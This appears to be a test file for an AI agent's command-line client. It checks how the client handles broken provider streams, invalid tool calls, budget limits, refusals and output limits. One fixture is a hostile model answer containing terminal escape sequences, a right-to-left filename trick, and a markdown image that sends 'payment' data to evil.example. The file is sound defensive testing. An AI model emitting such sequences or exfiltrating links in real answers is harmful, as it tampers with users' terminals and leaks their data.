import { say } from '@coral/testing';
import { expect } from 'vitest';
import { query, rowsRead } from '../support/models.js';
import { answers, fails, footers, look, partly, well, type Row } from './row.js';

const soFar = ['So far ', 'so ', 'good.'];
const shown = 'So far';
/** ANSI, a title for the window, C1, a turned reading direction, an invisible letter, a picture that would tell on us. */
const hostile =
  'Red \u001b[31malert\u001b[0m \u001b]0;owned\u0007 \u009b2J \u202egnp.exe \u200bhere ![x](https://evil.example/?q=payment)';

/** Replies that break off, and models that make no sense. */
export const replyFaults: readonly Row[] = [
  {
    what: 'a reset in mid-text',
    steps: [look, { parts: [{ say: soFar }], break: { in: 'text', by: 'reset' } }],
    requests: 2,
    ends: fails('provider_stream_cut', shown),
    footer: footers.oneLookOrMore,
  },
  {
    what: 'an end in mid-text',
    steps: [look, { parts: [{ say: soFar }], break: { in: 'text', by: 'end' } }],
    requests: 2,
    ends: fails('provider_stream_cut', shown),
    footer: footers.oneLookOrMore,
  },
  {
    what: 'an error event in mid-text',
    steps: ({ ai }) => {
      const error = ai.provider === 'anthropic' ? 'overloaded_error' : 'server_overloaded';
      return [look, { parts: [{ say: soFar }], break: { in: 'text', by: { error } } }];
    },
    requests: 2,
    ends: fails('provider_overloaded', shown),
    footer: footers.oneLookOrMore,
  },
  {
    what: 'silence in mid-text',
    steps: [{ parts: [{ say: soFar }], break: { in: 'text', by: 'silence' } }],
    budget: { max_stall_seconds: 2, max_seconds: 40 },
    requests: 1,
    ends: fails('provider_stalled', shown),
    footer: /^0 tools · /,
  },
  {
    what: 'resets in mid-call',
    steps: [look, { parts: [{ call: 'coral_query', args: { query } }], break: { in: 'tool_call', by: 'reset' } }],
    requests: 4,
    ends: fails('provider_stream_cut'),
    footer: footers.oneLookOrMore,
    more: ({ calls }) => expect(JSON.stringify(calls)).not.toContain('coral_query'),
  },
  {
    what: 'an end in mid-call, once',
    steps: [look, { parts: [{ call: 'coral_query', args: { query } }], break: { in: 'tool_call', by: 'end' } }, well],
    requests: 3,
    ends: answers(),
    footer: /^1 tool · [23]\.\dk in \/ 20[01] out tokens · \$0\.00[6-9]\d · /,
    more: ({ calls }) => expect(JSON.stringify(calls)).not.toContain('coral_query'),
  },
  {
    what: 'an event that is no JSON',
    steps: [look, { fault: 'no_json' }],
    requests: 2,
    ends: { code: 5, reason: 'provider_protocol', answer: /^\w+\n\[Not complete: the provider sent what is not/ },
    footer: footers.oneLookOrMore,
  },
  {
    what: 'a stream of nothing, once',
    steps: [look, { fault: 'empty' }, well],
    requests: 3,
    ends: answers(),
    footer: footers.twoSteps,
  },
  {
    what: 'arguments that are no JSON',
    steps: [
      { ...look, parts: [{ call: 'coral_query', json: '{"query": "latency' }] },
      { ...look, parts: [{ call: 'coral_query', args: { query } }] },
      (request) => ({ ...say('The p95 is ', `${rowsRead(request)[0]?.p95_ms} ms.`), usage: { input: 900, output: 9 } }),
    ],
    requests: 3,
    ends: answers(/^The p95 is \d[\d.]+ ms\.$/),
    footer: /^1 tool · 2\.9k in \/ 209 out tokens · \$0\.0079 · /,
    more: ({ script, calls, asked }) => {
      expect(script.seen[1]?.results[0]?.text).toContain('were no JSON object');
      expect(calls.filter(({ kind }) => kind === 'tool_call.intent')).toHaveLength(1);
      expect(asked.stderr).not.toContain('In no tool result');
    },
  },
  {
    what: 'a tool that does not exist',
    steps: [{ ...look, parts: [{ call: 'coral_drop_tables', args: { all: true } }] }, well],
    requests: 2,
    ends: answers(),
    footer: /^0 tools · 2\.0k in \/ 200 out tokens · \$0\.0060 · /,
    more: ({ script, calls }) => {
      expect(script.seen[1]?.results[0]?.text).toContain('There is no tool');
      expect(calls).toEqual([]);
    },
  },
  {
    what: 'calls without end',
    steps: [look],
    budget: { max_steps: 4 },
    requests: 4,
    ends: partly('steps', 'the limit of 4 steps was reached'),
    footer: /^3 tools · 4\.0k in \/ 400 out tokens · \$0\.0120 · /,
  },
  {
    what: '1,000 calls at once',
    steps: [{ ...look, parts: Array.from({ length: 1_000 }, () => ({ call: 'coral_get_health' })) }, well],
    budget: { max_tool_calls: 10 },
    requests: 2,
    ends: partly('tool_calls', 'the limit of 10 tool calls was reached', 'All is well.\nVERDICT: LIKELY'),
    footer: /^10 tools · 2\.0k in \/ 200 out tokens · \$0\.0060 · /,
    more: ({ script, calls }) => {
      expect(calls.filter(({ kind }) => kind === 'tool_call.intent')).toHaveLength(10);
      const results = script.seen[1]?.results ?? [];
      expect(results).toHaveLength(1_000);
      expect(results.filter(({ text }) => text.includes('the budget of tool calls is used up'))).toHaveLength(990);
    },
  },
  {
    what: 'more calls at once than any model makes',
    steps: [look, { ...look, parts: Array.from({ length: 1_001 }, () => ({ call: 'coral_get_health' })) }],
    requests: 2,
    ends: fails('provider_protocol'),
    footer: /^1 tool · /,
  },
  {
    what: 'an answer that would rule the terminal',
    steps: [look, { ...say(hostile), usage: look.usage }],
    requests: 2,
    ends: answers(/Red .*alert.*evil\.example/),
    footer: footers.twoSteps,
    more: ({ asked, answer }) => {
      // oxlint-disable-next-line no-control-regex -- finding them is the point
      expect(`${asked.stdout}${asked.stderr}`).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e]/);
      expect(answer).toContain('![x](https://evil.example/?q=payment)');
    },
  },
  {
    what: 'a refusal',
    steps: [look, { ...say('I ', 'will not.'), stop: 'refusal', usage: look.usage }],
    requests: 2,
    ends: partly('refusal', 'the model refused to go on', 'I will not.'),
    footer: footers.twoSteps,
  },
  {
    what: 'the limit of one answer',
    steps: [look, { ...say('I ', 'was about to'), stop: 'max_tokens', usage: look.usage }],
    requests: 2,
    ends: partly('max_tokens', 'the model stopped at its output limit', 'I was about to'),
    footer: footers.twoSteps,
  },
];
